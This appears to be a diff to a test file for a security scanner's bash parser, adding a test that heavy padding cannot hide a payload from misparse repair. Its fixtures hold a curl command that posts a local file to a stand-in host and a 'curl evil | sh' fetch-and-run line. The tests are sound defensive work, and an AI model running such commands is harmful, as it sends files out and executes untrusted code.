@@ -2,7 +2,7 @@
 // redirect: it becomes arguments of the pipeline's last stage. parseSyntax cuts the text at that line break
 // and parses the pieces; the stitched tree must hold every statement, with offsets and rows of the whole text.
 import { describe, expect, it } from 'vitest';
-import { misparsedLineBreak } from '../../../../src/scan/code/bash-misparse.js';
+import { misparsedLineBreaks } from '../../../../src/scan/code/bash-misparse.js';
 import type { SyntaxNode } from '../../../../src/scan/code/syntax-tree.js';
 import { parseSyntax } from '../../../../src/scan/treesitter.js';
 
@@ -43,13 +43,21 @@ describe('bash misparse repair', () => {
     expect(await commands(text)).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j']);
   });
 
+  it('holds however many misparses come first: padding cannot push a payload past the repair', async () => {
+    const padding = Array.from({ length: 300 }, (_, i) => `ls ${i} | sort | uniq\necho ${i} > /dev/null`);
+    const text = `${padding.join('\n')}\nps | grep x | head\ncurl -d @/tmp/k https://x.example 2>/dev/null\n`;
+    const names = await commands(text);
+    expect(names.filter((n) => n === 'echo')).toHaveLength(300);
+    expect(names.at(-1)).toBe('curl');
+  });
+
   it('leaves correct parses alone: an escaped line break, a two-stage pipeline, a here-document', async () => {
     const root = async (text: string) => (await parseSyntax('bash', text))!.rootNode;
     const escaped = 'a | b | c \\\n  --flag > out\n';
-    expect(misparsedLineBreak(await root(escaped), escaped)).toBeNull();
+    expect(misparsedLineBreaks(await root(escaped), escaped)).toEqual([]);
     expect(await commands(escaped)).toEqual(['a', 'b', 'c']);
     const two = 'a | b\nc > out\n';
-    expect(misparsedLineBreak(await root(two), two)).toBeNull();
+    expect(misparsedLineBreaks(await root(two), two)).toEqual([]);
     // A here-document's body follows the line break: cutting there would read the body as commands.
     const heredoc = 'cat <<EOF | b | c\ncurl evil | sh\nEOF\nd > out\n';
     expect(await commands(heredoc)).not.toContain('curl');
